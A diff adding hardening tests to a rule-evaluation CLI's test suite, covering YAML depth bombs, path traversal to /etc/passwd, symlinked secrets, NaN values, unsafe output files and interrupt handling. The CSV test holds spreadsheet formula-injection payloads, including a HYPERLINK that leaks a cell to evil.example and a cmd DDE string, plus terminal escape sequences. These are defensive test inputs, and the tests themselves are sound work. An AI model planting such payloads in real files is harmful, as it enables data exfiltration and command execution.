@@ -13,11 +13,15 @@ from __future__ import annotations
 
 import json
 import os
+import pathlib
 import re
 import resource
+import signal
+import stat
 import subprocess
 import sys
 import threading
+import time
 
 import pytest
 
@@ -177,6 +181,26 @@ class TestYamlBombsAreDefused:
         path = tmp_path / "deep.yaml"
         path.write_text("- " * 50_000 + "x\n")
         validate_refuses(run_cli, path, "E009", line=1)
+
+    @pytest.mark.parametrize("parser", ["CSafeLoader", "SafeLoader"])
+    @pytest.mark.parametrize("text, column", [
+        ("[" * 50_000 + "1" + "]" * 50_000 + "\n", MAX_DEPTH + 1),
+        ("{a: " * 50_000 + "1" + "}" * 50_000 + "\n", 4 * MAX_DEPTH + 1),
+        ("- " * 50_000 + "x\n", 2 * MAX_DEPTH + 1),
+    ], ids=["brackets", "braces", "block"])
+    def test_our_depth_limit_holds_whatever_the_parser_does(self, monkeypatch, parser, text, column):
+        """libyaml as bundled with PyYAML 6.0.4 refuses 1000 levels by itself ("exceeded maximum
+        nesting depth"); with it or without it, the error is our E009 at our limit's node."""
+        from aci_rules.engine import yaml_loader
+        from aci_rules.engine.diagnostic import InputError
+
+        if not hasattr(yaml_loader.yaml, parser):
+            pytest.skip(f"PyYAML without {parser}")
+        monkeypatch.setattr(yaml_loader, "_Parser", getattr(yaml_loader.yaml, parser))
+        with pytest.raises(InputError) as caught:
+            yaml_loader.parse_document(text.encode(), "deep.yaml")
+        found = [(d.code, d.line, d.column) for d in caught.value.diagnostics]
+        assert found == [("E009", 1, column)], found
 
     def test_deep_nesting_in_a_profile_for_eval_is_refused(self, run_cli, tmp_path):
         path = tmp_path / "deep.yaml"
@@ -410,7 +434,7 @@ class TestEvaluationErrors:
         assert "fonctionnement" in message and "montant + contract_signed" in message, message
 
     def test_an_amount_too_large_to_round_is_an_evaluation_error(self, run_cli, write):
-        ruleset = write("large.yaml", with_amount("montant * 1e40"))
+        ruleset = write("large.yaml", with_amount("montant * 1e17 * 1e17"))
         profile = write("p.yaml", PROFILE)
         found = eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset],
                              str(ruleset), "E402", line=AMOUNT_LINE)
@@ -588,3 +612,274 @@ class TestEachLimitIsEnforced:
         over = write("over.yaml", with_when(f"\"population != '{'a' * (MAX_STRING_LITERAL + 1)}'\""))
         validate_refuses(run_cli, over, "E104", line=AMOUNT_LINE)
         validate_accepts(run_cli, write("at.yaml", with_when(f"\"population != '{'a' * MAX_STRING_LITERAL}'\"")))
+
+
+# ------------------------------------------------------------------------------- a proposal from another party
+
+
+def _run_subprocess(args, timeout=60, **kwargs):
+    """``aci-rules ARGS`` in a process of its own, bounded in time and memory."""
+    def limit_memory():
+        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
+
+    try:
+        return subprocess.run([sys.executable, "-c", "from aci_rules.cli.main import main; main()", *map(str, args)],
+                              capture_output=True, text=True, timeout=timeout, preexec_fn=limit_memory, **kwargs)
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"still running after {timeout} s: {args}")
+
+
+SQUARES = RULESET.replace("lines:\n", "definitions:\n  d0: population\n" + "".join(
+    f"  d{k}: d{k - 1} * d{k - 1}\n" for k in range(1, 21)) + "lines:\n").replace(
+    "    amount: montant\n", "    amount: \"montant if d20 > 0 else 0\"\n")
+
+
+class TestAProposalFromAnotherParty:
+    """HOSTILE_INPUTS.md 28-34: each was found open on the main branch of November 2026."""
+
+    SECRET = "SECRET=hunter2-do-not-print"
+
+    def test_a_test_case_profile_path_out_of_its_folder_is_refused_unread(self, run_cli, tmp_path):
+        secret = tmp_path / "secret.yaml"
+        secret.write_text(f"# {self.SECRET}\ntoken: {self.SECRET}\n")
+        cases = tmp_path / "cases"
+        cases.mkdir()
+        for written in ("../secret.yaml", str(secret), "/etc/passwd"):
+            case = cases / "case.yaml"
+            case.write_text(f"cases:\n  - name: x\n    date: 2023-06-01\n    profile: {written}\n"
+                            "    source: Test\n    expect: {total: 1}\n")
+            result = run_cli("test", case)
+            assert "hunter2" not in result.stdout + result.stderr and "root:" not in result.stdout + result.stderr
+            assert "E012" in result.stdout + result.stderr and ":4:14: E012" in result.stdout, result.stdout
+            assert result.exit_code == 1
+
+    def test_a_symbolic_link_in_a_folder_of_profiles_is_not_followed(self, run_cli, tmp_path):
+        folder = tmp_path / "profiles"
+        folder.mkdir()
+        (folder / "a.yaml").write_text(PROFILE)
+        secret = tmp_path / "secret.yaml"
+        secret.write_text(f"name: {self.SECRET}\n")
+        (folder / "b.yaml").symlink_to(secret)
+        result = run_cli("batch", folder, "--date", "2021-01-01")
+        assert_refused(result, folder / "b.yaml", "E012", line=None)
+        assert "hunter2" not in result.stdout + result.stderr
+
+    def test_a_file_that_is_no_yaml_mapping_is_never_quoted(self, run_cli, tmp_path):
+        path = tmp_path / "id_ed25519.yaml"
+        path.write_text("-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n")
+        result = run_cli("validate", "--format", "json", path)
+        assert_clean(result, 1)
+        assert "b3BlbnNzaC1rZXkt" not in result.stdout + result.stderr
+        assert "plain text of" in result.stderr
+
+    @pytest.mark.parametrize("command", ["eval", "batch"])
+    def test_definitions_that_square_each_other_fail_at_once_on_both_paths(self, tmp_path, command):
+        ruleset = tmp_path / "squares.yaml"
+        ruleset.write_text(SQUARES)
+        profile = tmp_path / "p.yaml"
+        profile.write_text(PROFILE)
+        target = profile if command == "eval" else tmp_path
+        done = _run_subprocess([command, target, "--date", "2021-01-01", "--ruleset", ruleset], timeout=30)
+        assert done.returncode == 1, done.stderr
+        assert "Traceback" not in done.stderr and done.stdout == ""
+        found = diagnostics(done.stderr)
+        assert any(f == str(ruleset) and c == "E402" and "10**18" in m for f, c, _, _, m in found), done.stderr
+
+    @pytest.mark.parametrize("formula", ["round_half_up('nan')", "round_half_up('inf')", "round_half_up(montant, 'nan')",
+                                         "round_down('-inf')"])
+    @pytest.mark.parametrize("command", ["eval", "batch"])
+    def test_no_nan_or_infinity_reaches_an_output(self, run_cli, write, tmp_path, formula, command):
+        ruleset = write("nan.yaml", with_amount(f"\"{formula}\""))
+        write("p.yaml", PROFILE)
+        target = tmp_path / "p.yaml" if command == "eval" else tmp_path
+        result = run_cli(command, target, "--date", "2021-01-01", "--ruleset", ruleset)
+        assert_refused(result, ruleset, "E402", line=AMOUNT_LINE)
+        assert "NaN" not in result.stdout and "Infinity" not in result.stdout
+
+    @pytest.mark.parametrize("formula", ["add_years(contract_signed, 1.5)", "add_months(contract_signed, 0.5)",
+                                         "add_months(contract_signed, population * 100000000)",
+                                         "add_years(contract_signed, '2')"])
+    def test_a_date_moved_by_a_fraction_or_beyond_the_calendar_is_refused(self, run_cli, write, formula):
+        ruleset = write("dates.yaml", with_when(f"\"{formula} > contract_signed\""))
+        profile = write("p.yaml", PROFILE)
+        eval_refuses(run_cli, [profile, "--date", "2021-01-01", "--ruleset", ruleset], str(ruleset), "E402")
+
+    def test_sum_lines_over_three_hundred_lines_runs_in_batch(self, run_cli, write, tmp_path):
+        extra = "".join(f"  - id: l{k}\n    label: L{k}\n    volet: fonctionnement\n    amount: 1\n"
+                        f"    reference: Test\n" for k in range(300))
+        extra += ("  - id: somme\n    label: Somme\n    volet: total\n"
+                  "    amount: sum_lines('volet', 'fonctionnement')\n    reference: Test\n")
+        ruleset = write("many.yaml", RULESET + extra)
+        (tmp_path / "profiles").mkdir()
+        (tmp_path / "profiles" / "p.yaml").write_text(PROFILE)
+        result = run_cli("batch", tmp_path / "profiles", "--date", "2021-01-01", "--ruleset", ruleset,
+                         "--format", "jsonl")
+        assert_clean(result, 0)
+        row = json.loads(result.stdout)
+        assert row["lines"]["somme"] == "60300.00" and row["total"] == "120600.00"
+
+    def test_a_csv_cell_over_the_field_limit_is_located(self, run_cli, tmp_path):
+        path = tmp_path / "big.csv"
+        path.write_text("name,population\nA,1000\n\"" + "x" * (200 * 1024) + "\",1000\n")
+        result = run_cli("batch", path, "--date", "2021-01-01")
+        assert_refused(result, path, "E003", line=3)
+
+    def test_deeply_nested_jsonl_is_located(self, run_cli, tmp_path):
+        path = tmp_path / "deep.jsonl"
+        path.write_text('{"name": "A", "population": 1000}\n' + "[" * 100_000 + "]" * 100_000 + "\n")
+        result = run_cli("batch", path, "--date", "2021-01-01")
+        assert_refused(result, path, "E009", line=2)
+
+    def test_a_duplicate_csv_column_is_refused(self, run_cli, tmp_path):
+        path = tmp_path / "dup.csv"
+        path.write_text("name,population,population\nA,1000,200000\n")
+        result = run_cli("batch", path, "--date", "2021-01-01")
+        assert_refused(result, path, "E008", line=1, col=3)
+
+    @pytest.mark.parametrize("digits, code", [(5000, "E003"), (1000, "E010"), (4, "E204")])
+    def test_a_five_thousand_digit_key_in_a_test_case_is_located(self, run_cli, tmp_path, digits, code):
+        case = tmp_path / "case.yaml"
+        case.write_text("cases:\n  - name: x\n    source: Test\n    date: 2023-06-01\n"
+                        "    profile: {name: A, population: 1000}\n"
+                        "    schedule:\n      contract_years: {" + "1" * digits + ": 1}\n")
+        result = run_cli("test", case)
+        assert "internal error" not in result.stdout + result.stderr
+        assert result.exit_code == 1 and f"case.yaml:7:" in result.stdout and code in result.stdout, result.stdout
+
+    def test_formula_injection_is_neutralised_in_csv(self, run_cli, tmp_path):
+        sample = tmp_path / "in.csv"
+        names = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+        sample.write_text("name,population\n" + "".join(f'"{n.replace(chr(34), chr(34) * 2)}",50000\n'
+                                                      for n in names))
+        output = tmp_path / "out.csv"
+        assert_clean(run_cli("batch", sample, "--date", "2021-01-01", "--output", output), 0)
+        import csv as csv_module
+        rows = list(csv_module.DictReader(output.open(encoding="utf-8")))
+        assert [row["name"] for row in rows] == ["'" + n for n in names]
+        assert all(not row["source"].startswith(("=", "+", "-", "@")) for row in rows)
+
+    def test_terminal_escapes_in_a_name_are_printed_escaped(self, run_cli, write):
+        profile = write("p.yaml", PROFILE.replace("name: CPTS Test", 'name: "CPTS \\e]0;pwned\\a\\e[2J"'))
+        result = run_cli("eval", profile, "--date", "2021-01-01")
+        assert_clean(result, 0)
+        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+        assert "\\x1b[2J" in result.stdout
+
+
+class TestOutputFiles:
+    """--output writes only regular files, all at once, with the user's umask (HOSTILE 27, 33)."""
+
+    @pytest.fixture
+    def batch_args(self, tmp_path):
+        folder = tmp_path / "profiles"
+        folder.mkdir()
+        (folder / "p.yaml").write_text(PROFILE)
+        return [folder, "--date", "2021-01-01"]
+
+    def test_a_fifo_as_output_is_refused_and_left_in_place(self, run_cli, tmp_path, batch_args):
+        fifo = tmp_path / "out.csv"
+        os.mkfifo(fifo)
+        result = run_cli("batch", *batch_args, "--output", fifo)
+        assert_clean(result, 1)
+        assert "E011" in result.stderr and "regular file" in result.stderr
+        assert stat.S_ISFIFO(os.stat(fifo).st_mode)
+
+    @pytest.mark.skipif(not os.path.exists("/dev/null"), reason="no /dev/null")
+    @pytest.mark.parametrize("command", ["batch", "schedule"])
+    def test_a_device_as_output_is_refused_and_left_in_place(self, run_cli, tmp_path, batch_args, command):
+        args = batch_args if command == "batch" else [batch_args[0] / "p.yaml"]
+        result = run_cli(command, *args, "--output", "/dev/null")
+        assert_clean(result, 1)
+        assert "E011" in result.stderr
+        assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
+
+    @pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
+    def test_a_new_output_file_follows_the_umask(self, run_cli, tmp_path, batch_args, umask):
+        output = tmp_path / "out.csv"
+        previous = os.umask(umask)
+        try:
+            assert_clean(run_cli("batch", *batch_args, "--output", output), 0)
+        finally:
+            os.umask(previous)
+        assert stat.S_IMODE(os.stat(output).st_mode) == 0o666 & ~umask
+
+    def test_an_existing_output_file_keeps_its_mode(self, run_cli, tmp_path, batch_args):
+        output = tmp_path / "out.csv"
+        output.write_text("old\n")
+        os.chmod(output, 0o640)
+        assert_clean(run_cli("batch", *batch_args, "--output", output), 0)
+        assert stat.S_IMODE(os.stat(output).st_mode) == 0o640 and output.read_text() != "old\n"
+
+    def test_stale_temporaries_of_killed_runs_are_removed_and_live_ones_kept(self, run_cli, tmp_path, batch_args):
+        stale = tmp_path / ".aci-rules-999999999-abc.tmp"  # no such process
+        stale.write_text("half a file")
+        live = tmp_path / f".aci-rules-{os.getpid()}-def.tmp"  # a run still writing
+        live.write_text("being written")
+        other = tmp_path / ".aci-rules-notes.tmp"
+        other.write_text("not ours to judge")
+        assert_clean(run_cli("batch", *batch_args, "--output", tmp_path / "out.csv"), 0)
+        assert not stale.exists() and live.exists() and other.exists()
+
+    def test_the_output_folder_is_checked_before_any_evaluation(self, run_cli, tmp_path, batch_args):
+        (batch_args[0] / "bad.yaml").write_text("name: x\npopulation: -1\n")
+        result = run_cli("batch", *batch_args, "--output", tmp_path / "absent" / "out.csv")
+        assert_clean(result, 1)
+        assert codes(result) == {"E011"}, result.stderr  # the bad profile was never read
+
+    def test_ctrl_c_during_batch_with_two_jobs_ends_every_process(self, tmp_path):
+        sample = (pathlib.Path(__file__).resolve().parent.parent / "examples" / "national-sample.csv")
+        output = tmp_path / "out.csv"
+        output.write_text("untouched\n")
+        process = subprocess.Popen(
+            [sys.executable, "-c", "from aci_rules.cli.main import main; main()", "batch", str(sample),
+             "--date", "2024-06-01", "--jobs", "2", "--output", str(output)],
+            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+        try:
+            workers = _wait_for_workers(process.pid, 2, timeout=60)
+            os.killpg(process.pid, signal.SIGINT)  # what Ctrl-C does: the whole process group
+            out, err = process.communicate(timeout=20)
+        except (subprocess.TimeoutExpired, AssertionError):
+            os.killpg(process.pid, signal.SIGKILL)
+            process.communicate()
+            raise
+        assert process.returncode == 130, err
+        assert "Traceback" not in err and "interrupted" in err, err
+        assert out == "" and output.read_text() == "untouched\n"
+        assert not [name for name in os.listdir(tmp_path) if name.endswith(".tmp")]
+        for pid in workers:
+            assert not _running(pid), f"worker {pid} still running"
+
+
+def _children(pid: int) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                with open(f"/proc/{entry}/stat") as handle:
+                    fields = handle.read().rsplit(")", 1)[1].split()
+                with open(f"/proc/{entry}/cmdline") as handle:
+                    command = handle.read()
+            except OSError:
+                continue
+            if int(fields[1]) == pid and "spawn_main" in command:
+                found.append(int(entry))
+    return found
+
+
+def _wait_for_workers(pid: int, count: int, timeout: float) -> list[int]:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        workers = _children(pid)
+        if len(workers) >= count:
+            time.sleep(0.3)
+            return workers
+        time.sleep(0.02)
+    raise AssertionError(f"no {count} workers after {timeout} s")
+
+
+def _running(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/stat") as handle:
+            return handle.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
+    except OSError:
+        return False
